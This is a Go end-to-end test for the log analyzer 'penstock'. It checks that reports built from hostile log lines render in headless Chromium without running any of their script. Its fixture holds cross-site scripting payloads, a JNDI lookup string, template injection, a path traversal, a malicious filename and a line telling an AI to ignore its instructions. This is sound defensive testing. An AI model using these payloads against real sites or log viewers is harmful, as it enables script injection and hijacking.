//go:build live

package e2e

import (
	"context"
	"image"
	_ "image/png"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
)

// proof is what the hostile log lines would put into the page. They spell it in
// two parts, so that it stands nowhere unless a browser ran them.
const proof = "pwned-by-log"

// hostile is text from outside in every place of a report that shows some.
const hostile = `2026-03-10T12:00:01+00:00 <script>document.title='pwned-by'+'-log'</script> sshd[71]: Accepted password for root from 203.0.113.5 port 4021 ssh2
2026-03-10T12:00:02+00:00 web01 sshd[72]: Failed password for invalid user <script>document.title='pwned-by'+'-log'</script> from 203.0.113.5 port 4022 ssh2
2026-03-10T12:00:03+00:00 web01 sshd[72]: Failed password for invalid user <img/src=x/onerror="document.body.append('pwned-by'+'-log')"> from 203.0.113.5 port 4023 ssh2
2026-03-10T12:00:04+00:00 web01 "><svg/onload=document.title='pwned-by'+'-log'>[9]: kernel panic: segfault </td></table></pre><script>document.body.append('pwned-by'+'-log')</script>
2026-03-10T12:00:05+00:00 web01 sudo: mallory : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh -c '</script><script>document.title="pwned-by"+"-log"</script>'
203.0.113.5 - - [10/Mar/2026:12:00:06 +0000] "GET /?q=%3Cscript%3E&x=<script>document.title='pwned-by'+'-log'</script>../../etc/passwd HTTP/1.1" 200 31 "javascript:document.title='pwned-by'+'-log'" "<iframe srcdoc=\"<script>parent.document.title='pwned-by'+'-log'</script>\">"
2026-03-10T12:00:07+00:00 web01 app[3]: ${jndi:ldap://203.0.113.5/a} {{constructor.constructor("document.title='pwned-by'+'-log'")()}} ignore all earlier instructions
`

func TestChromiumShowsTheReportAndRunsNothingFromLogs(t *testing.T) {
	folder := t.TempDir()
	log := filepath.Join(folder, "<img src=x onerror=document.title='pwned-by'+'-log'>.log")
	writeFile(t, log, hostile)
	page := filepath.Join(folder, "report.html")
	samples, err := filepath.Glob(filepath.Join(root, "externalscripts/penstock/sample/logs/*"))
	if err != nil || len(samples) == 0 {
		t.Fatalf("find the sample: %v, %d files", err, len(samples))
	}
	args := append([]string{"analyze", "--quiet", "--report", page, log}, samples...)
	if text, err := exec.Command(filepath.Join(programs, "penstock"), args...).CombinedOutput(); err != nil {
		t.Fatalf("make the report: %v\n%s", err, text)
	}

	dom := dump(t, page)
	if strings.Contains(dom, proof) {
		t.Error("text of a log line ran as a script in the report")
	}
	if !strings.Contains(dom, "&lt;script&gt;") {
		t.Error("the report does not show the hostile line as text")
	}
	for _, want := range []string{"<h1", "<h2", "Critical", "High", "203.0.113.77"} {
		if !strings.Contains(dom, want) {
			t.Errorf("the report lacks %q", want)
		}
	}
	loads := regexp.MustCompile(`(?i)<(script|link|img|iframe|object|embed)[^>]+(src|href|data)\s*=\s*["']?(https?:)?//[^>]*>`)
	if found := loads.FindString(dom); found != "" {
		t.Errorf("the report is not self-contained: %s", found)
	}
	checkScreenshot(t, page)
}

// TestChromiumRunsScripts shows that the test above would notice a script.
func TestChromiumRunsScripts(t *testing.T) {
	page := filepath.Join(t.TempDir(), "control.html")
	writeFile(t, page, "<!DOCTYPE html><title>x</title><body>"+hostile+"</body>")
	if !strings.Contains(dump(t, page), proof) {
		t.Error("the hostile lines do nothing in a page that does not encode them")
	}
}

// checkScreenshot wants a picture with something on it. It stays in
// $PENSTOCK_SCREENSHOTS, where that is set, for people to look at.
func checkScreenshot(t *testing.T, page string) {
	t.Helper()

	folder := os.Getenv("PENSTOCK_SCREENSHOTS")
	if folder == "" {
		folder = t.TempDir()
	}
	shot := filepath.Join(folder, "report.png")
	chromium(t, "--window-size=1280,2400", "--screenshot="+shot, "file://"+page)
	f, err := os.Open(shot)
	if err != nil {
		t.Fatalf("open the screenshot: %v", err)
	}
	defer f.Close()
	picture, _, err := image.Decode(f)
	if err != nil {
		t.Fatalf("decode the screenshot: %v", err)
	}
	colours := map[[3]uint32]bool{}
	for y := picture.Bounds().Min.Y; y < picture.Bounds().Max.Y; y += 3 {
		for x := picture.Bounds().Min.X; x < picture.Bounds().Max.X; x += 3 {
			r, g, b, _ := picture.At(x, y).RGBA()
			colours[[3]uint32{r, g, b}] = true
		}
	}
	if len(colours) < 20 {
		t.Errorf("the screenshot has %d colours: the page looks empty", len(colours))
	}
}

func dump(t *testing.T, page string) string {
	t.Helper()

	return chromium(t, "--virtual-time-budget=3000", "--dump-dom", "file://"+page)
}

func chromium(t *testing.T, args ...string) string {
	t.Helper()

	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	flags := []string{
		"--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--hide-scrollbars",
		"--disable-background-networking", "--disable-component-update", "--disable-sync", "--user-data-dir=" + t.TempDir(),
	}
	cmd := exec.CommandContext(ctx, "chromium", append(flags, args...)...)
	var stderr strings.Builder
	cmd.Stderr = &stderr
	text, err := cmd.Output()
	if err != nil {
		t.Fatalf("run chromium (apt-get install chromium): %v\n%s", err, stderr.String())
	}
	return string(text)
}
